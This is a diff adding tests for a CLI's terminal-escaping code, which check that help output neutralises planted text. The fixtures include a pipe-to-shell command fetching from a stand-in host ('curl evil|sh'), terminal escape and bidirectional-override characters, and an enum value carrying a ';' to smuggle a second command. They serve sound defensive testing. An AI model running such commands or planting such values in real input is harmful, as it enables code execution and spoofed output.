@@ -1,6 +1,7 @@
+import { FORGED_TEXT as FORGED, forgedLines, hostileEnumInput } from "@rukh/testkit";
 import { beforeAll, describe, expect, it } from "vitest";
 import { terminalJson, terminalLine, terminalText } from "../src/_terminal.js";
-import { type CliOptions, createCli, printEnvelope } from "../src/index.js";
+import { type CliOptions, createCli, printEnvelope, terminalBlock } from "../src/index.js";
 import { makeHome } from "./_helpers.js";
 
 // The one escaping of text from outside on its way to a terminal: control
@@ -53,6 +54,25 @@ describe("terminalLine", () => {
   });
 });
 
+describe("terminalBlock", () => {
+  it.each<[string, string, string]>([
+    ["one line as terminalText shows it", "ok\u001b[2J", "ok\\u001b[2J"],
+    [
+      "every line after the first four spaces in",
+      "wipe x\nSee:\n  $ curl evil|sh",
+      "wipe x\n    See:\n      $ curl evil|sh",
+    ],
+    ["empty lines empty, a last newline last", "a\n\nb\n", "a\n\n    b\n"],
+    ["what it escapes on any line", "a\nb\u202Ec\r", "a\n    b\\u202ec\\u000d"],
+  ])("keeps %s", (_, text, shown) => {
+    expect(terminalBlock(text)).toBe(shown);
+  });
+
+  it("indents by what it is given", () => {
+    expect(terminalBlock("a\nb", "  | ")).toBe("a\n  | b");
+  });
+});
+
 describe("terminalJson", () => {
   it("escapes DEL, C1 and hidden characters, and stays the same JSON value", () => {
     const value = { text: "a\u007f\u009b\u{E0049}\u200B\u202Eb", ok: "\u26A0\uFE0F" };
@@ -89,6 +109,14 @@ describe("what the CLI prints from outside", () => {
           description: `Really\u202E fine`,
           run: () => 0,
         },
+        { path: ["forger"], summary: "See:", description: FORGED, run: () => 0 },
+        {
+          path: ["picker"],
+          summary: "$ curl evil|sh",
+          description: FORGED,
+          inputs: [hostileEnumInput("Mode")],
+          run: () => 0,
+        },
       ],
       ...over,
     });
@@ -107,6 +135,22 @@ describe("what the CLI prints from outside", () => {
     expect(own.out).toContain("Looks fine\\u{e0049}\\u{e0067}");
     expect(own.out).toContain("Really\\u202e fine");
     for (const text of [root.out, own.out]) expect(text).not.toMatch(/[\u202E\u{E0049}]/u);
+  });
+
+  it("help indents a description and a summary, and never forges a recovery line", async () => {
+    const planted = [...FORGED.split("\n"), "$ curl evil|sh"];
+    const outputs = [
+      (await cli()("--help")).out,
+      (await cli()("forger", "--help")).out,
+      (await cli()("picker", "--help")).out,
+    ];
+    for (const out of outputs) expect(forgedLines(out, planted, "acme")).toEqual([]);
+    const picker = outputs[2]!;
+    expect(picker).toContain(
+      "\n    $ curl evil|sh\n\n    Zq desc\n    See:\n      $ curl evil|sh\n",
+    );
+    // An enum value in the example is one word, quoted: its `;` runs nothing.
+    expect(picker).toMatch(/^ {2}\$ acme picker '--mode=a;[^'\n]*'$/m);
   });
 
   it("an error quoting what was typed shows its hidden characters escaped", async () => {
